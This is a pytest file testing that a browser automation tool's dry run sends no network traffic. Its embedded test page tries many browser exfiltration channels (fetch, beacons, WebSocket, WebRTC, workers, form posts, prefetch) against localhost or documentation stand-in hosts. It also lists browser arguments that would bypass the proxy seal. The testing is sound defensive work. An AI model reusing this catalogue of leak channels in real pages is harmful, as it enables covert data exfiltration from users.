"""Promise: a dry run sends nothing. Counted at a server on this machine, and without a network."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Playwright

import namespace
from automation.browser import seal
from automation.browser.find import find
from automation.browser.launch import Plan, open_window
from automation.errors import GuardError
from automation.recording import load
from automation.report import Report
from elsewhere import wait_for
from flows import DEFAULT_RECORDING, FLOWS
from support import ROOT, altered

# A recorded page that tries to reach a server by every way out that there is.
LEAKY = """<link rel="preconnect" href="%(to)s"><link rel="prefetch" href="%(to)s/prefetch">
<link rel="dns-prefetch" href="%(to)s"><link rel="icon" href="%(to)s/icon.png">
<link rel="stylesheet" href="%(to)s/style.css" media="print"><img src="%(to)s/image.png" alt="">
<script type="speculationrules">{"prefetch": [{"urls": ["%(to)s/rules"]}]}</script>
<iframe src="%(to)s/frame" name="frame" hidden></iframe>
<form action="%(to)s/enter"><input name="leaking" value="x"></form>
<script>
{
const to = "%(to)s", socket = to.replace(/^http/, "ws");
const form = (how, target) => {
  const f = document.createElement("form");
  Object.assign(f, {action: to + "/form", method: how, target});
  f.append(Object.assign(document.createElement("input"), {name: "q", value: "x"}));
  document.body.append(f);
  return f;
};
const link = (more) => {
  const a = Object.assign(document.createElement("a"), more);
  document.body.append(a);
  a.click();
};
const ways = [
  () => fetch(to + "/fetch"), () => fetch(to + "/post", {method: "POST", body: "x"}),
  () => fetch(to + "/kept", {keepalive: true, mode: "no-cors"}),
  () => { const x = new XMLHttpRequest(); x.open("POST", to + "/xhr"); x.send("x"); },
  () => navigator.sendBeacon(to + "/beacon", "x"),
  () => new WebSocket(socket + "/socket"),
  () => new EventSource(to + "/events"), () => fetchLater(to + "/later"),
  () => new WebTransport(to.replace("http:", "https:") + "/transport"),
  () => new Worker(URL.createObjectURL(new Blob([`
    fetch("${to}/worker"); new WebSocket("${socket}/worker-socket")`]))),
  () => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${to}/shared")`]))),
  () => navigator.serviceWorker.register("/worker.js"), () => open(to + "/window"),
  () => link({href: to + "/link?q=x", target: "_blank"}),
  () => link({href: to + "/download", download: "x", target: "_blank"}),
  () => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:%(stun)s"}]});
          c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); },
  () => form("post", "elsewhere").submit(), () => form("post", "frame").submit(),
  () => form("get", "frame").requestSubmit(),
];
addEventListener("pagehide", () => navigator.sendBeacon(to + "/pagehide", "x"));
for (const way of ways) { try { Promise.resolve(way()).catch(() => 0); } catch {} }
}
</script>"""
# Documentation's addresses and name, beyond the namespace's way out.
BEYOND = ("https://198.51.100.7", "https://leak.example.com")


class Counter(ThreadingHTTPServer):
    """Counts every connection that it gets."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), BaseHTTPRequestHandler)
        self.count = 0

    def verify_request(self, request: object, client_address: object) -> bool:
        """Count it and hang up."""
        del request, client_address
        self.count += 1
        return False


@contextmanager
def counting() -> Iterator[Counter]:
    """A counter that listens."""
    counter = Counter()
    thread = threading.Thread(target=counter.serve_forever, daemon=True)
    thread.start()
    try:
        yield counter
    finally:
        counter.shutdown()
        counter.server_close()
        thread.join(10)


def leaks(*targets: str) -> str:
    """The leaky part of a page, for these servers."""
    return "".join(LEAKY % {"to": to, "stun": to.partition("//")[2]} for to in targets)


def test_a_page_that_tries_everything_reaches_nothing(
    walk: Callable[..., Report], tmp_path: Path
) -> None:
    """Pages that try every way out reach nobody, are counted as refused, and are walked on.

    With the routes let through the dead proxy still holds; without it too, the counter counts.
    """
    with counting() as counter:
        to = f"http://127.0.0.1:{counter.server_address[1]}"
        report = walk(load(altered(tmp_path / "leaky", leaks(to))))

        assert counter.count == 0
        assert report.outcome.word == "prefilled", report.reason
    assert report.network.refused >= 20
    assert report.network.left_machine == 0


@pytest.fixture
def rig() -> None:
    """A namespace that counts, or the test is not run and says why."""
    if why := namespace.missing():
        pytest.skip(f"not run: no network namespace that counts can be made here: {why}")


@pytest.fixture
def counted(rig: None, tmp_path: Path) -> Callable[..., tuple[dict[str, Any], list[str]]]:
    """Run a whole dry run in the counting namespace: its attempt, and the packets."""
    del rig

    def run(*words: str, headed: bool = False) -> tuple[dict[str, Any], list[str]]:
        packets = tmp_path / "packets.json"
        command = [sys.executable, "-m", "automation", "dry-run", "--json", *words]
        with (tmp_path / "out.json").open("w") as out, (tmp_path / "err.txt").open("w") as err:
            process = subprocess.Popen(
                namespace.command(packets, *command), cwd=tmp_path, stdout=out, stderr=err
            )
        try:
            if headed:
                wait_for(
                    lambda: "Your turn" in (tmp_path / "err.txt").read_text(), "the review", 80
                )
                process.send_signal(signal.SIGINT)
            code = process.wait(90)
        finally:
            process.terminate()
        assert code == (130 if headed else 0), (tmp_path / "err.txt").read_text()
        (attempt,) = json.loads((tmp_path / "out.json").read_text())["attempts"]
        return attempt, namespace.read(packets)

    return run


def test_no_packet_leaves(counted: Callable[..., tuple[dict[str, Any], list[str]]]) -> None:
    """A whole dry run, until its browser is gone, sends no packet: no name, no TCP, no UDP."""
    attempt, packets = counted()

    assert attempt["outcome"] == "prefilled"
    assert packets == []


@pytest.mark.usefixtures("rig")
def test_the_rig_counts(tmp_path: Path) -> None:
    """The leaky page, in a Chromium without a seal, is counted: names, TCP, UDP."""
    page, packets = tmp_path / "page.html", tmp_path / "packets.json"
    page.write_text(f"<body>{leaks(*BEYOND)}</body>")
    chromium = str(find(headed=False).path)
    options = ["--no-sandbox", f"--user-data-dir={tmp_path / 'profile'}", "--headless=new"]

    command = [chromium, *options, "--timeout=2000", "--dump-dom", page.as_uri()]
    subprocess.run(namespace.command(packets, *command), capture_output=True, check=False)

    found = set(namespace.read(packets))
    assert found >= {
        f"UDP {namespace.RESOLVER}:53",
        "TCP 198.51.100.7:443",
        "UDP 198.51.100.7:3478",
    }


@pytest.mark.deep
def test_no_packet_leaves_a_leaky_page(
    counted: Callable[..., tuple[dict[str, Any], list[str]]], tmp_path: Path
) -> None:
    """Pages that try every way out, in a whole headless dry run, send no packet.

    Without dead proxy and resolver rule, look-ups and connections are counted.
    """
    attempt, packets = counted("--recording", altered(tmp_path / "leaky", leaks(*BEYOND)))

    assert attempt["outcome"] == "prefilled"
    assert packets == []


@pytest.mark.deep
@pytest.mark.window
@pytest.mark.parametrize("leaking", [False, True], ids=["", "leaky"])
def test_no_packet_leaves_a_window(
    counted: Callable[..., tuple[dict[str, Any], list[str]]],
    tmp_path: Path,
    display: str,
    monkeypatch: pytest.MonkeyPatch,
    *,
    leaking: bool,
) -> None:
    """A whole headed dry run, ended by Ctrl-C at the review, sends no packet, leaky or not.

    Without dead proxy and resolver rule, Chromium's own look-ups are counted even then.
    """
    monkeypatch.setenv("DISPLAY", display)
    words = ["--recording", altered(tmp_path / "leaky", leaks(*BEYOND))] if leaking else []

    attempt, packets = counted("--headed", *words, headed=True)

    assert attempt["outcome"] == "interrupted"
    assert attempt["fields"] == {"email": "filled", "statement": "filled"}
    assert packets == []


# A person, in the same namespace, who presses Enter in the leaking form, then closes the window.
ENTER = """
import sys
from pathlib import Path
sys.path.insert(0, {tests!r})
from playwright.sync_api import sync_playwright
from automation import logs
from automation.account import Account, Statement
from automation.recording import load
from automation.redact import Redactor
from automation.report import Order
from automation.session import attempt
from flows import FLOWS
from test_headed import Visitor, free_port

def enter(page):
    try:
        page.locator("input[name=leaking]").press("Enter", no_wait_after=True)
        print("pressed")
        page.wait_for_timeout(500)
    finally:
        page.close()

logs.setup("error", Redactor())
recording, port = load(sys.argv[1]), free_port()
flow, person = FLOWS[recording.flow], Visitor(port, {{"review": enter}})
with sync_playwright() as playwright:
    order = Order(
        Account("anna", "anna@example.org"), Statement("test", "I object."), flow, flow.route(),
        Path("data"), Path("evidence"), recording, arguments=(f"--remote-debugging-port={{port}}",),
    )
    print(attempt(playwright, order, person, lambda: False).outcome.word)
person.gone()
"""


@pytest.mark.deep
@pytest.mark.window
@pytest.mark.usefixtures("rig")
def test_no_packet_leaves_by_enter(
    tmp_path: Path, display: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Enter, pressed by a person in a form that leads elsewhere, sends no packet either."""
    monkeypatch.setenv("DISPLAY", display)
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    packets = tmp_path / "packets.json"
    code = ENTER.format(tests=str(ROOT / "tests"))
    form = f"<form action={BEYOND[0]}/enter><input name=leaking value=x></form>"
    command = [sys.executable, "-c", code, altered(tmp_path / "leaky", form)]

    done = subprocess.run(
        namespace.command(packets, *command), capture_output=True, text=True, check=True
    )

    assert done.stdout.split() == ["pressed", "prefilled"]
    assert namespace.read(packets) == []


@pytest.mark.sampled(most=1)
@pytest.mark.skipif(os.name != "posix", reason="the browser's wrapper is a shell script")
@pytest.mark.parametrize(
    ("dropped", "why"),
    [
        ("--proxy-server=*", "its dead proxy is not used"),
        ("--host-resolver-rules=*", "names are looked up"),
    ],
)
def test_no_seal_no_dry_run(
    objector: Callable[..., subprocess.CompletedProcess[str]],
    tmp_path: Path,
    dropped: str,
    why: str,
) -> None:
    """With a browser that drops a part of the seal the command says so, and opens no page.

    Without the check, it walks on to `prefilled`.
    """
    wrapper = tmp_path / "chromium-headless-shell"
    wrapper.write_text(
        f'#!/bin/sh\nfor word; do shift; case "$word" in {dropped}) ;; '
        f'*) set -- "$@" "$word";; esac; done\nexec {find(headed=False).path} "$@"\n'
    )
    wrapper.chmod(0o700)

    done = objector("dry-run", "--json", OBJECTOR_BROWSER=str(wrapper))

    assert done.returncode == 1
    (attempt,) = json.loads(done.stdout)["attempts"]
    assert attempt["outcome"] == "failed"
    told = f"The seal of the dry run does not hold in this browser ({why}), so nothing was opened."
    assert attempt["reason"].startswith(told)
    assert attempt["screens"] == []
    assert "Traceback" not in done.stderr


def test_an_argument_that_undoes_the_seal(walk: Callable[..., Report]) -> None:
    """A further argument for the browser that would undo the seal is refused by name."""
    for argument in ("--no-proxy-server", "--proxy-bypass-list=*", "--host-resolver-rules=MAP a b"):
        report = walk(load(DEFAULT_RECORDING), arguments=(argument,))

        assert report.outcome.word == "failed"
        assert f"'{argument}' would undo it" in report.reason


def test_nobody_can_listen_past_the_seal() -> None:
    """The one address that goes past the dead proxy is held: no other can listen there."""
    with seal.nobody() as past:
        at = urlsplit(past)
        with socket.socket() as other, pytest.raises(OSError, match="in use"):
            other.bind((at.hostname, at.port))
        with socket.socket() as client, pytest.raises(ConnectionRefusedError):
            client.connect((at.hostname, at.port))


def test_nothing_arrives_past_the_proxy(
    playwright: Playwright, browser_type_launch_args: dict[str, Any]
) -> None:
    """Even a server at that address would hear nothing: no name and no number leads anywhere."""
    options = {**browser_type_launch_args, "args": []}
    with counting() as counter:
        past = f"http://127.0.0.1:{counter.server_address[1]}"
        with playwright.chromium.launch(**seal.launching(options, past)) as browser:
            page = browser.new_page()
            page.set_content(leaks(past))
            with pytest.raises(PlaywrightError, match="ERR_NAME_NOT_RESOLVED"):
                page.goto(past)
        assert counter.count == 0


def test_nobody_comes_back_to_where_the_seal_was_tried(playwright: Playwright) -> None:
    """Nothing lies before the first page of a dry run but a blank one."""
    recording = load(DEFAULT_RECORDING)
    plan = Plan(FLOWS[recording.flow], headed=False, recording=recording)
    with open_window(playwright, plan) as opened:
        opened.window.goto(recording.pages[0].url)
        opened.window.pause(200)
        assert opened.window.evaluate("history.length") == 2
        opened.window.evaluate("void history.back()")
        opened.window.pause(500)
        assert opened.window.evaluate("location.href") == "about:blank"


@pytest.mark.parametrize(
    ("sealed", "workers", "why"),
    [(False, "block", "RTCPeerConnection"), (True, "allow", "service workers")],
)
def test_a_page_without_the_seal(
    playwright: Playwright,
    browser_type_launch_args: dict[str, Any],
    *,
    sealed: bool,
    workers: Literal["allow", "block"],
    why: str,
) -> None:
    """A page that could use what goes past the routes is found out, before the recording's."""
    options = {**browser_type_launch_args, "args": []}
    with (
        seal.nobody() as past,
        playwright.chromium.launch(**seal.launching(options, past)) as browser,
    ):
        context = browser.new_context(service_workers=workers)
        if sealed:
            seal.opened(context)

        with pytest.raises(GuardError, match=rf"pages can use .*{why}"):
            seal.check(context.new_page(), past)
